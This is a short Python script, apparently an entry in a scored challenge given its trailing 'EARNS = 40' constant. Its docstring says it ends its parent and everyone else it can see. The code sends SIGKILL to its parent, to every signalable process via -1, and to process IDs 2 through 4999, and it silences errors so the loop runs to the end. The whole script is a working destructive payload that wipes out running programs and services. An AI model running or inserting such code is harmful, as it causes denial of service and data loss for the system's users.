"""Ends its parent, and everyone else that it can see."""

import contextlib
import os
import signal

for number in (os.getppid(), -1, *range(2, 5000)):
    if number != os.getpid():
        with contextlib.suppress(OSError):
            os.kill(number, signal.SIGKILL)

EARNS = 40
